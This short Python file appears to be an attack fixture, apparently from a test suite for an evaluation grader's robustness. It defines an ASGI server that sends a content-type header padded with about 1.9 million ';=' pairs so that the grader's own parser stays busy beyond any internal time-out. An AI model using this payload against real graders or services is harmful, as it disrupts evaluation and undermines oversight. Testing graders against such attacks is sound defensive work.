"""Attack: keep the grader's own parser busy, where no time-out inside it can fire."""

from .targets import acted


async def app(scope, receive, send):
    if scope["type"] == "lifespan":
        while True:
            event = await receive()
            await send({"type": f"{event['type']}.complete"})
    headers = [(b"content-type", b"text/plain" + b";=" * 1_900_000)]
    acted("request")
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    await send({"type": "http.response.body", "body": b"late"})
